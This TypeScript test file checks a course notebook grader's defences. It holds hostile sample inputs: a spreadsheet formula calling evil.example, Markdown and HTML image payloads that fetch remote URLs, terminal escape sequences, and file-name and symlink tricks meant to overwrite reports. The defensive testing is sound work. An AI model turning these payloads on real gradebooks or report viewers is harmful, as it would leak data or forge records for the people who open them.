// The grader's parts without child processes: extraction, compilation, configuration, CSV/Markdown, CLI arguments.
import { expect } from 'chai';
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { CorruptFileError, InvalidArgumentError } from '../../lib/errors';
import { compileCell, EXPORT_NAME, rewriteLibImports } from '../../lib/grading/compile';
import { DEFAULT_RULE, loadGradingConfig, ruleFor } from '../../lib/grading/config';
import { codeSizeProblem, exerciseIdOf, extractExercises, MAX_CODE_BYTES, MAX_SUBMISSION_BYTES, MAX_SUBMISSION_CONTAINERS, readSubmission } from '../../lib/grading/extract';
import { gradeSubmissions, importsOf, type SubmissionGrade } from '../../lib/grading/grade';
import { SandboxUnavailableError } from '../../lib/grading/sandbox';
import { buildLibView } from '../../lib/grading/libview';
import { libKeyOf, LibView } from '../../lib/exercises/cell';
import { helpersFor, topLevelNames, withHelpers } from '../../lib/exercises/helpers';
import { ExercisePolicyError, libUseMessage } from '../../lib/exercises/policy';
import { fixtureSpecs } from './fixtures/specs';
import { gradebookCsv, reportFileName, showControls, submissionReport, writeOutputs } from '../../lib/grading/report';
import { emptyNotebook, splitSource, type NotebookCell } from '../../lib/notebook/ipynb';
import { collectSubmissions, parseArgs } from '../../scripts/grade';

const code = (source: string, metadata: NotebookCell['metadata'] = {}): NotebookCell =>
  ({ cell_type: 'code', metadata, source: splitSource(source), outputs: [], execution_count: null });

describe('grading parts', () => {
  describe('extract', () => {
    it('finds exercise cells by metadata or by a (leniently written) first-line marker', () => {
      expect(exerciseIdOf(code('// EXERCISE 01-q-sample: x\nfunction f() {}'))).to.equal('01-q-sample');
      expect(exerciseIdOf(code('\n  //exercise   01-q-sample :x'))).to.equal('01-q-sample');
      expect(exerciseIdOf(code('const a = 1;', { exercise: { id: '02-x' } }))).to.equal('02-x');
      expect(exerciseIdOf(code('const a = 1; // EXERCISE 01-q-sample: x'))).to.equal(undefined);
      expect(exerciseIdOf({ cell_type: 'markdown', metadata: {}, source: '// EXERCISE 01-a: x' })).to.equal(undefined);
    });

    it('keeps the first cell of a duplicated exercise and says so', () => {
      const nb = emptyNotebook();
      nb.cells.push(code('// EXERCISE 01-a: first\nconst v = 1;'), code('// EXERCISE 01-a: copy\nconst v = 2;'));
      const ex = extractExercises(nb);
      expect(ex.cells.get('01-a')!.source).to.contain('const v = 1');
      expect(ex.notes[0]).to.contain('appears again in cell 2');
    });

    // The attack (run first, unguarded): a 360 MB file of empty JSON arrays took readSubmission 444 s and 9 GB of memory.
    it('refuses, unread and quickly, a submission too large or with too many JSON containers; a real one still reads', () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'grading-flood-'));
      try {
        const big = path.join(dir, 'big.ipynb');
        fs.writeFileSync(big, '{"nbformat":4,"cells":[],"metadata":{"x":"');
        fs.truncateSync(big, MAX_SUBMISSION_BYTES + 1); // sparse: no disk used
        let t0 = Date.now();
        expect(() => readSubmission(big)).to.throw(CorruptFileError, /big\.ipynb: 32\.0 MB, more than the 32 MB a submission may have .*not read/);
        expect(Date.now() - t0).to.be.lessThan(1000);

        const flood = path.join(dir, 'flood.ipynb');
        fs.writeFileSync(flood, `{"nbformat":4,"cells":[],"metadata":{"x":[${'[],'.repeat(MAX_SUBMISSION_CONTAINERS)}[]]}}`);
        t0 = Date.now();
        expect(() => readSubmission(flood)).to.throw(CorruptFileError, `${MAX_SUBMISSION_CONTAINERS + 5} JSON arrays and objects, more than the ${MAX_SUBMISSION_CONTAINERS}`);
        expect(Date.now() - t0).to.be.lessThan(2000);

        // exactly at the container limit (4 containers around the list, the list's last one) it is parsed as usual
        const ok = path.join(dir, 'ok.ipynb');
        fs.writeFileSync(ok, `{"nbformat":4,"cells":[],"metadata":{"x":[${'[],'.repeat(MAX_SUBMISSION_CONTAINERS - 5)}[]]}}`);
        expect(readSubmission(ok).cells).to.deep.equal([]);
        expect(fs.readdirSync(dir).sort()).to.deep.equal(['big.ipynb', 'flood.ipynb', 'ok.ipynb']); // nothing written beside them
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    });

    // The attack (run first): one 27 MB code cell made a 3-exercise notebook take 69 s and 2.8 GB to grade, in the grader.
    it('a notebook with more code than MAX_CODE_BYTES is named as too large; one at the limit is not', () => {
      const nb = emptyNotebook();
      nb.cells.push(code('// EXERCISE 01-a: x\nconst v = 1;'));
      const own = Buffer.byteLength('// EXERCISE 01-a: x\nconst v = 1;');
      const rest = MAX_CODE_BYTES - own - 'const s = "";'.length;
      // 2 bytes per é: bytes, not characters, count
      nb.cells.push(code(`const s = "${'é'.repeat(Math.floor(rest / 2))}${'a'.repeat(rest % 2)}";`));
      expect(extractExercises(nb).codeCells.reduce((a, c) => a + Buffer.byteLength(c.source), 0)).to.equal(MAX_CODE_BYTES);
      expect(codeSizeProblem(extractExercises(nb))).to.equal(undefined);
      (nb.cells[1].source as string[])[0] = (nb.cells[1].source as string[])[0].replace('é', 'éx');
      expect(codeSizeProblem(extractExercises(nb))).to.match(/^its code cells hold 2\.0 MB of source, more than the 2 MB the grader reads .*not graded$/);
    });
  });

  describe('compile', () => {
    // The attack (run first): 3,000 nested parentheses in one learner's cell overflowed TypeScript's parser in the grader's
    // process, and the RangeError ended the whole class's run before any gradebook was written.
    it('a cell nested too deeply for the parser is a named compile error, not an exception', () => {
      for (const n of [3000, 200000]) {
        const r = compileCell(`function f() { return ${'('.repeat(n)}1${')'.repeat(n)}; }`, 'f');
        expect(r.ok).to.equal(false);
        expect(r.error).to.equal("does not compile: it is nested too deeply for TypeScript's parser (its call stack overflowed; split the nested expression into named steps)");
      }
      expect(compileCell(`function f() { return ${'('.repeat(50)}1${')'.repeat(50)}; }`, 'f').ok).to.equal(true);
    });

    it('points ./lib and ../lib imports at the repository lib, leaves packages alone', () => {
      const out = rewriteLibImports(`const a = require("./lib/schedule"); const b = require('../lib/exercises/codec'); const c = require("@tensorflow/tfjs"); const d = require("./library");`, '/repo/lib');
      expect(out).to.contain('require("/repo/lib/schedule")');
      expect(out).to.contain('require("/repo/lib/exercises/codec")');
      expect(out).to.contain('require("@tensorflow/tfjs")');
      expect(out).to.contain('require("./library")');
    });

    it('exports the named function, whether declared with function or const', () => {
      for (const src of ['function f(x: number) { return x + 1; }', 'const f = (x: number): number => x + 1;']) {
        const c = compileCell(src, 'f', '/repo/lib');
        expect(c.ok).to.equal(true);
        const m = { exports: {} as Record<string, unknown> };
        new Function('module', 'exports', 'require', (c as { code: string }).code)(m, m.exports, require);
        expect((m.exports[EXPORT_NAME] as (x: number) => number)(1)).to.equal(2);
      }
    });

    it('reports syntax errors with their position, and rejects odd function names', () => {
      const c = compileCell('function f( {', 'f', '/repo/lib');
      expect(c.ok).to.equal(false);
      expect((c as { error: string }).error).to.match(/does not compile: line 1, column \d+/);
      expect(compileCell('1', 'f; evil()', '/x').ok).to.equal(false);
    });
  });

  describe('helpers from other cells', () => {
    it('takes the function declarations and const arrow functions the exercise cell uses, transitively, the last definition winning', () => {
      const cells = [
        'function a(x: number) { return b(x) + 1; }\nconst unused = 3;',
        'const b = (x: number) => x * 2;\nfunction a(x: number) { return b(x) + 100; }',
        'function c() { return 0; }\nconsole.log(c());',
        'const d = loadData();',
      ];
      const ex = '// EXERCISE 01-x: y\nfunction f(x: number) { return a(x) + d; }';
      const h = helpersFor(ex, cells);
      expect(h.map((x) => `${x.name}@${x.from}`)).to.deep.equal(['a@1', 'b@1']);
      expect(withHelpers(ex, h)).to.contain('x) + 100');
      // a name the exercise cell declares itself is never taken from elsewhere
      expect(helpersFor('function a() { return 1; }\nfunction f() { return a(); }', cells)).to.deep.equal([]);
      expect([...topLevelNames("import * as tf from 'x';\nimport { p, q as r } from 'y';\nconst [s, { t }] = z;\nclass K {}")].sort()).to.deep.equal(['K', 'p', 'r', 's', 't', 'tf']);
    });

    // The attack (run first): the names to look up went through queue.shift(), which moves the whole array each time in V8
    // (measured: 100k shifts 0.58 s, 400k 9.9 s); a cell of 300,000 distinct names (1.9 MB, under the code limit) took
    // seconds of the grader's own thread per exercise.
    it('a cell with hundreds of thousands of names is looked up in linear time', () => {
      const names = Array.from({ length: 300000 }, (_, i) => `n${i}`);
      const t0 = Date.now();
      const h = helpersFor(`function f() { return 1; }\n${names.join(';')};\nhelp();`, ['function help() { return 2; }', 'function other() {}']);
      const ms = Date.now() - t0;
      expect(h.map((x) => x.name)).to.deep.equal(['help']);
      expect(ms, 'milliseconds for 300,000 names (the quadratic queue took ~5 s)').to.be.lessThan(3500);
    });
  });

  describe('the lib view and the lib policy', () => {
    const libDir = path.resolve(__dirname, '..', '..', 'lib');

    it('holds every lib module; only the allowed helpers and what they load are real code, the rest stubs', () => {
      const none = buildLibView(libDir, { id: '01-x' });
      expect(Object.keys(none)).to.include.members(['forward', 'schedule', 'exercises/01-forward-process', 'grading/sandbox', 'viz/index']);
      for (const code of Object.values(none)) expect(code).to.match(/^throw Object\.assign\(new Error\(/);
      const withSchedule = buildLibView(libDir, { id: '01-x', libAllowed: ['schedule'] });
      expect(withSchedule.schedule).to.contain('class NoiseSchedule');
      expect(withSchedule.errors).to.contain('class DiffusionError'); // loaded by schedule
      expect(withSchedule.forward).to.match(/^throw/);
      expect(() => buildLibView(libDir, { id: '01-x', libAllowed: ['exercises/01-forward-process'] })).to.throw(ExercisePolicyError, 'may not name');
      expect(() => buildLibView(libDir, { id: '01-x', libAllowed: ['nope'] })).to.throw(ExercisePolicyError, 'not a lib module');
    });

    it('loads a view in memory: relative imports inside lib, packages from node_modules, stubs throw the policy message', () => {
      const view = new LibView('/course/lib', buildLibView(libDir, { id: '01-x', libAllowed: ['schedule'] }), require);
      const req = view.requireFrom(undefined);
      const { NoiseSchedule } = req('/course/lib/schedule') as typeof import('../../lib/schedule');
      expect(NoiseSchedule.fromBetas([0.5, 0.5]).alphasCumprod[1]).to.be.closeTo(0.25, 1e-12);
      expect(req('./lib/schedule.js')).to.equal(req('/course/lib/schedule'));
      expect(() => req('./lib/forward')).to.throw(/exercise 01-x is graded on your own code: its cell may use only \.\/lib\/schedule/);
      expect(() => req('/course/lib/nothing-here')).to.throw(/Cannot find module/);
      expect(libKeyOf('/course/lib', '/course/lib/nn/layers.ts')).to.equal('nn/layers');
      expect(libKeyOf('/course/lib', './lib/../lib/forward')).to.equal('forward');
      expect(libKeyOf('/course/lib', '@tensorflow/tfjs')).to.equal(undefined);
      expect(libKeyOf('/course/lib', '/course/library')).to.equal(undefined);
      expect(libUseMessage({ id: '01-x' }, 'forward')).to.contain('no lib module (only tf)');
    });
  });

  it('lists the modules a cell imports (shown in the report)', () => {
    const src = `import * as tf from '@tensorflow/tfjs';\nimport { addNoise } from "./lib/forward";\nimport './lib/side';\nconst fs = require('fs');\nconst m = import('./lib/x');`;
    expect(importsOf(src)).to.deep.equal(['@tensorflow/tfjs', './lib/forward', './lib/side', 'fs', './lib/x']);
  });

  describe('config', () => {
    let dir = '';
    beforeEach(() => (dir = fs.mkdtempSync(path.join(os.tmpdir(), 'grading-config-'))));
    afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

    it('merges per-exercise rules over defaults; a missing folder gives the defaults', () => {
      fs.writeFileSync(path.join(dir, 'points.json'), JSON.stringify({ defaults: { points: 3 }, exercises: { 'a-b': { points: 5, timeLimitS: 9 } } }));
      const c = loadGradingConfig(dir);
      expect(ruleFor(c, 'a-b')).to.deep.equal({ ...DEFAULT_RULE, points: 5, timeLimitS: 9 });
      expect(ruleFor(c, 'other').points).to.equal(3);
      expect(ruleFor(loadGradingConfig(path.join(dir, 'none')), 'x')).to.deep.equal(DEFAULT_RULE);
    });

    it('rejects bad files with CorruptFileError naming the key', () => {
      fs.writeFileSync(path.join(dir, 'points.json'), '{ nope');
      expect(() => loadGradingConfig(dir)).to.throw(CorruptFileError, 'not valid JSON');
      fs.writeFileSync(path.join(dir, 'points.json'), JSON.stringify({ exercises: { x: { points: -1 } } }));
      expect(() => loadGradingConfig(dir)).to.throw(CorruptFileError, 'exercises.x: points must be a number >= 0');
      fs.writeFileSync(path.join(dir, 'points.json'), JSON.stringify({ exercises: { x: { pionts: 1 } } }));
      expect(() => loadGradingConfig(dir)).to.throw(CorruptFileError, 'unknown keys pionts');
    });
  });

  describe('report', () => {
    it('showControls shows every terminal control (C0 but line feed and tab, DEL, C1, bidi overrides) and nothing else', () => {
      expect(showControls('a\x1b]52;c;eA==\x07\x1b[2K\rb')).to.equal('a␛]52;c;eA==␇␛[2K␍b');
      expect(showControls('\x00\x7f\x9b31m\u202eevil')).to.equal('␀␡⟨U+009B⟩31m⟨U+202E⟩evil');
      const plain = 'line 1\n\tTab, é, ✔, ␛, [3,4], ⏎';
      expect(showControls(plain)).to.equal(plain);
      for (let c = 0; c < 0xa0; c++) {
        const shown = showControls(String.fromCharCode(c));
        if (c === 0x0a || c === 0x09 || (c >= 0x20 && c < 0x7f)) expect(shown, `U+${c.toString(16)}`).to.equal(String.fromCharCode(c));
        else expect(/[\x00-\x1f\x7f-\x9f]/.test(shown), `U+${c.toString(16)} left raw`).to.equal(false);
      }
    });

    /** Markdown's backslash escapes undone: the text a reader sees. */
    const unescapeMd = (md: string) => md.replace(/\\([!-/:-@[-`{-~])/g, '$1');
    /** A line without its code spans (a run of n backticks up to the next run of exactly n), where < and [ are text. */
    const withoutCodeSpans = (line: string) => {
      let out = '';
      for (let i = 0; i < line.length;) {
        const open = /^`+/.exec(line.slice(i));
        if (!open) { out += line[i++]; continue; }
        const n = open[0].length;
        const close = new RegExp(`(?<!\`)\`{${n}}(?!\`)`, 'g');
        close.lastIndex = i + n;
        const m = close.exec(line);
        if (!m) { out += open[0]; i += n; continue; }
        i = m.index + n;
      }
      return out;
    };

    const grade = (name: string, problem?: string): SubmissionGrade => ({
      name,
      file: `/x/${name}`,
      notebooks: ['01-nb'],
      total: 1,
      maxTotal: 3,
      notes: [],
      ...(problem ? { problem } : {}),
      exercises: [
        { id: '01-b', title: 'B', functionName: 'b', points: 1, maxPoints: 1, status: 'passed', reason: 'all 1 checks passed', output: '', checks: [{ name: 't = 0', hidden: false, status: 'pass', message: 'exact' }] },
        { id: '01-a', title: 'A', functionName: 'a', points: 0, maxPoints: 2, status: 'failed', reason: '1 of 1 checks failed', output: 'printed | text', checks: [{ name: 'x|y', hidden: true, status: 'fail', message: 'result[0]: expected 1, got 2', knownMistake: 'offByOne' }] },
      ],
    });

    it('CSV: sorted columns and rows, quoting where needed', () => {
      const csv = gradebookCsv([grade('b.ipynb'), grade('a, "quoted".ipynb', 'odd\nproblem')]).trim().split('\n');
      expect(csv[0]).to.equal('submission,01-a,01-b,total,max,problem');
      expect(csv[1]).to.equal('"a, ""quoted"".ipynb",0,1,1,3,"odd');
      expect(csv[3]).to.equal('b.ipynb,0,1,1,3,');
    });

    it('CSV: a submission name or problem that a spreadsheet would run as a formula is written as text (CSV injection)', () => {
      // learners name their own files: "=HYPERLINK(…)" or "@SUM(…)" would become live formulas when the instructor opens
      // gradebook.csv in LibreOffice or Excel; a leading ' makes them text (OWASP's advice), other fields stay as they were
      const csv = gradebookCsv([
        grade('=HYPERLINK("http://evil.example/?"&A1,"open me").ipynb'), grade('+1+1.ipynb'), grade('@SUM(A1).ipynb', '-2+3'),
        grade('\t=1+2.ipynb'), grade('-notes.ipynb'),
      ]).trim().split('\n');
      const first = csv.slice(1).map((row) => row.replace(/^"/, ''));
      for (const cell of first) expect(cell[0], cell).to.equal("'");
      expect(csv.find((r) => r.includes('@SUM'))).to.match(/,'-2\+3$/);
      expect(csv.find((r) => r.includes('HYPERLINK'))).to.equal(`"'=HYPERLINK(""http://evil.example/?""&A1,""open me"").ipynb",0,1,1,3,`);
      expect(gradebookCsv([grade('b.ipynb')]).trim().split('\n')[1]).to.equal('b.ipynb,0,1,1,3,');
    });

    it('reports of submissions whose names flatten alike stay apart (a learner cannot overwrite another\'s report)', () => {
      // attack: the victim submits class/alice.ipynb; the attacker names a file class__alice.ipynb (or "class alice",
      // "class_alice"), which flattened to the same report name and replaced the victim's report with the attacker's
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'reports-'));
      try {
        const names = ['class/alice.ipynb', 'class__alice.ipynb', 'class_alice.ipynb', 'class alice.ipynb', 'CLASS/ALICE.ipynb'];
        const out = writeOutputs(names.map((n, i) => grade(n, i === 0 ? undefined : 'attacker')), dir);
        expect(new Set(out.reports).size, out.reports.join(' ')).to.equal(names.length);
        expect(fs.readdirSync(path.join(dir, 'reports')).length).to.equal(names.length);
        // each file holds its own submission's report
        out.reports.forEach((f, i) => expect(unescapeMd(fs.readFileSync(f, 'utf8')), f).to.contain(names[i]));
        expect(path.basename(out.reports[0])).to.equal('class__alice.md'); // an unclashing name is kept as it was
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    });

    it('a submission name too long for a report file name (a folder + a 249-character file name) cannot stop the batch\'s reports', () => {
      // attack: the file system allows 255 bytes per name; the flattened "section-a__<249 x>.md" is longer, and writing it
      // threw ENAMETOOLONG, so the reports of every later submission were never written
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'reports-'));
      try {
        const long = `section-a/${'x'.repeat(249)}.ipynb`;
        const names = [long, `section-a/${'x'.repeat(249)}y.ipynb`.replace('xy', 'y'), 'section-a/zoe.ipynb'];
        const out = writeOutputs(names.map((n) => grade(n)), dir);
        expect(fs.readdirSync(path.join(dir, 'reports')).length).to.equal(names.length);
        for (const f of out.reports) expect(Buffer.byteLength(path.basename(f)), f).to.be.at.most(255);
        out.reports.forEach((f, i) => expect(unescapeMd(fs.readFileSync(f, 'utf8')), f).to.contain(names[i]));
        expect(new Set(out.reports.map((f) => path.basename(f).toLowerCase())).size).to.equal(names.length);
        expect(path.basename(out.reports[2])).to.equal('section-a__zoe.md');
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    });

    it('Markdown: text a learner controls cannot forge the report\'s structure, hide its checks or load anything', () => {
      // attack: the learner names the file, writes what the cell throws (it becomes the reason and the check message),
      // what it imports and what it prints. Each payload below forged a heading, a total, a passed verdict, raw HTML that
      // hides the rest of the report (<!--) or fetches a URL when the instructor opens it (<img>, ![](…)), or closed the
      // output's code fence early.
      const evil = grade('eve\n# Grading report: alice\n**Total: 3 / 3**.ipynb', 'bad\n\n## 01-z: Z — 9 / 9');
      evil.notes.push('note\n# forged');
      const [b, a] = evil.exercises;
      a.reason = 'the cell threw while loading: Error: x\n\n## 01-a: A — 2 / 2\n\nFunction `a`: **passed** — all 1 checks passed\n\n<!--';
      a.checks[0].message = 'threw Error: <img src=http://evil.example/p.png> [open](http://evil.example) ![p](http://evil.example/q.png) <http://evil.example>';
      a.imports = ['a`b <img src=x>'];
      a.helpers = ['f`'];
      a.output = 'fine\n````\n## 01-a: A — 2 / 2 (forged after the fence)\n````\n~~~\n   ```';
      b.reason = 'all 1 checks passed <!-- -->';
      const md = submissionReport(evil);
      // the structure: one title, one heading per exercise, the fence closing only where the report closes it
      const lines = md.split('\n');
      const outside: string[] = [];
      let fence = '';
      const inside: string[] = [];
      for (const line of lines) {
        if (fence) {
          if (/^ {0,3}(`+)\s*$/.test(line) && line.trim().length >= fence.length) fence = '';
          else inside.push(line);
        } else if (/^(`{3,})/.test(line)) fence = /^(`+)/.exec(line)![1];
        else outside.push(line);
      }
      expect(fence, 'every fence is closed').to.equal('');
      expect(inside.join('\n')).to.equal(a.output); // the output is shown verbatim
      expect(outside.filter((l) => /^ {0,3}#/.test(l))).to.deep.equal([
        outside.find((l) => l.startsWith('# Grading report: ')), '## 01-b: B — 1 / 1', '## 01-a: A — 0 / 2',
      ]);
      expect(outside.filter((l) => /^\*\*Total/.test(l))).to.have.length(1);
      expect(outside.filter((l) => l.startsWith('Function `'))).to.have.length(2);
      // no raw HTML, link, image or autolink outside the fence: every < and every "](" of learner text is escaped
      for (const l of outside.map(withoutCodeSpans)) {
        expect(l, l).to.not.match(/(^|[^\\])</);
        expect(l, l).to.not.match(/\]\(/); // no inline link or image: its "](" is escaped
      }
      // what was escaped still reads as what the learner wrote
      expect(md).to.contain('eve ⏎ # Grading report: alice ⏎ \\*\\*Total: 3 / 3\\*\\*');
      expect(md).to.contain('Imports: ``a`b <img src=x>``');
    });

    it('Markdown: totals, every check with its reason and the known mistake, escaped table cells, the output', () => {
      const md = submissionReport(grade('s.ipynb'));
      expect(md).to.contain('**Total: 1 / 3**');
      expect(md).to.contain('| x\\|y | ✘ fail | result[0]: expected 1, got 2 — matches the known mistake \'offByOne\' |');
      expect(md).to.contain('```\nprinted | text\n```');
      expect(reportFileName('class/alice 01.ipynb')).to.equal('class__alice_01.md');
    });
  });

  describe('command line', () => {
    it('parses options and rejects bad ones', () => {
      const a = parseArgs(['subs', '--out', 'o', '--jobs', '3', '--notebook', '01-x', '--time-limit', '5']);
      expect(a).to.include({ out: 'o', jobs: 3, notebook: '01-x', timeLimitS: 5 });
      expect(a.inputs).to.deep.equal(['subs']);
      expect(() => parseArgs([])).to.throw(InvalidArgumentError, 'usage');
      expect(() => parseArgs(['x', '--jobs', '0'])).to.throw(InvalidArgumentError, '--jobs');
      expect(() => parseArgs(['x', '--bogus'])).to.throw(InvalidArgumentError, 'unknown option --bogus');
      expect(parseArgs(['x']).unsafeNoSandbox).to.equal(false);
      expect(parseArgs(['x', '--unsafe-no-sandbox']).unsafeNoSandbox).to.equal(true);
    });

    it('refuses to grade where bubblewrap cannot run, and says how to go on', async () => {
      const specs = fixtureSpecs;
      const config = loadGradingConfig(path.join(__dirname, 'fixtures', 'grading'));
      let err: unknown;
      try {
        await gradeSubmissions([], { specs, config, bwrap: '/nonexistent/bwrap' });
      } catch (e) {
        err = e;
      }
      expect(err).to.be.instanceOf(SandboxUnavailableError);
      expect((err as Error).message).to.match(/bwrap|Linux/);
      expect((err as Error).message).to.contain('--unsafe-no-sandbox');
    });

    it('collects notebooks recursively, skipping checkpoints, with names relative to the folder', () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'grading-collect-'));
      try {
        for (const f of ['alice/01.ipynb', 'bob.ipynb', '.ipynb_checkpoints/bob-checkpoint.ipynb', 'notes.txt']) {
          fs.mkdirSync(path.dirname(path.join(dir, f)), { recursive: true });
          fs.writeFileSync(path.join(dir, f), '{}');
        }
        expect(collectSubmissions([dir]).map((s) => s.name)).to.deep.equal(['alice/01.ipynb', 'bob.ipynb']);
        expect(collectSubmissions([path.join(dir, 'bob.ipynb')]).map((s) => s.name)).to.deep.equal(['bob.ipynb']);
        expect(() => collectSubmissions([path.join(dir, 'missing')])).to.throw(InvalidArgumentError, 'no such file');
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    });

    it('in a folder, a symbolic link or a FIFO named *.ipynb is reported and not followed (another learner\'s file, /dev/zero)', () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'grading-links-'));
      try {
        fs.writeFileSync(path.join(dir, 'alice.ipynb'), '{}');
        fs.symlinkSync(path.join(dir, 'alice.ipynb'), path.join(dir, 'mallory.ipynb'));
        fs.symlinkSync('/dev/zero', path.join(dir, 'zero.ipynb'));
        const fifo = spawnSync('mkfifo', [path.join(dir, 'pipe.ipynb')]).status === 0;
        const skipped: string[] = [];
        expect(collectSubmissions([dir], (why) => skipped.push(why)).map((s) => s.name)).to.deep.equal(['alice.ipynb']);
        expect(skipped.filter((w) => w.includes('a symbolic link')).map((w) => path.basename(w.split(':')[0]))).to.deep.equal(['mallory.ipynb', 'zero.ipynb']);
        if (fifo) expect(skipped.some((w) => w.includes('pipe.ipynb: not a regular file (a device, FIFO or socket)'))).to.equal(true);
        expect(skipped.length).to.equal(fifo ? 3 : 2);
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    });
  });
});
